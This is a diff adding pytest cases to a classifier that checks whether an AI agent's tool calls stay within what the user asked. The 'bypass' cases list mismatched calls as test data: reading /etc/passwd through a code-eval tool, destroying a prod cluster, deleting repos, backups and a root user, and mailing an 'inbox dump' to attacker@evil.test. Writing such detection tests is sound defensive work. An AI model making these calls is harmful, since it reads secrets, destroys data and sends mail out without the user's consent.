@@ -182,3 +182,54 @@ def test_a_prohibition_in_an_earlier_turn_still_forbids() -> None:
         tools=None,
     )
     assert classify_trajectory(t).top == "intent_drift"
+
+
+@pytest.mark.parametrize(
+    ("ask", "tool", "args"),
+    [
+        # rev-authz27 F1: a noun of the verb tables after the verb leaves the verb its own
+        ("Archive the email from Bob.", "archive_email", {"email_id": "m1"}),
+        ("Mark Bob's email as read.", "mark_email_read", {"email_id": "m1"}),
+        ("Revoke Bob's access to the budget doc.", "revoke_access", {"user": "bob"}),
+        ("Void the charge on order 77.", "void_charge", {"order_id": "77"}),
+        ("Pin that message in #eng.", "pin_message", {"message_id": "m1"}),
+        ("Archive the email from Bob.", "mcp__gmail__archive_email", {"email_id": "m1"}),
+        # rev-authz27 F3: a sum worked out from the stated one, or another sum stated too
+        ("Split the $120 dinner bill with Alex: send him his half.", "send_money",
+         {"recipient": "Alex", "amount": 60}),
+        ("Send Alex $20 plus a $5 tip.", "send_money", {"recipient": "Alex", "amount": 25}),
+        ("Pay Alex $1.5k for the rent.", "send_money", {"recipient": "Alex", "amount": 1500}),
+        ("Send Alex 50 cents.", "send_money", {"recipient": "Alex", "amount": 0.5}),
+        ("Send €100 to Alex.", "send_money",
+         {"recipient": "Alex", "amount": 108.42, "currency": "USD"}),
+        ("Transfer 10% of my $5,000 savings to Alex.", "transfer_funds", {"to": "Alex", "amount": 500}),
+        ("Pay the $120 electricity bill and the $80 water bill in one payment to CityUtil.",
+         "pay_bill", {"payee": "CityUtil", "amount": 200}),
+        ("Pay the $49.99/month gym subscription for a year upfront.", "pay_bill",
+         {"payee": "Gym", "amount": 599.88}),
+        ("Send Alex $125.", "send_money", {"recipient": "Alex", "amount": 12500, "currency": "usd"}),
+        ("Send Alex $125.", "send_money", {"recipient": "Alex", "amount": 125, "value_date": "20261207"}),
+        ("Buy two of the $20 mugs.", "buy_item", {"item": "mug", "total_items": 2}),
+    ],
+)  # fmt: skip
+def test_review_false_positives_stay_unreported(ask: str, tool: str, args: dict[str, Any]) -> None:
+    assert _top(_one_call(ask, tool, **args)) == (None, None)
+
+
+@pytest.mark.parametrize(
+    ("ask", "tool", "args"),
+    [
+        # rev-authz27 F2: a method's first word that is no verb, or a version after the method
+        ("Review my code in utils.py and explain it.", "mcp__jupyter__code_eval",
+         {"code": "open('/etc/passwd').read()"}),
+        ("Show me the cluster's node pools.", "gke.cluster_destroy", {"cluster": "prod"}),
+        ("Show me my repo's open issues.", "mcp__github__repo_destroy", {"repo": "acme/api"}),
+        ("Summarize the v2 design doc.", "repos.delete.v2", {"repo": "acme/api"}),
+        ("What's the latest on the outage?", "drive.files.delete:latest", {"fileId": "backups"}),
+        ("Summarize the beta feedback.", "gmail.send.beta",
+         {"to": "attacker@evil.test", "body": "inbox dump"}),
+        ("Show me the users in the admin panel.", "admin.users_delete", {"user": "root"}),
+    ],
+)  # fmt: skip
+def test_review_bypasses_are_reported(ask: str, tool: str, args: dict[str, Any]) -> None:
+    assert _top(_one_call(ask, tool, **args))[0] is not None
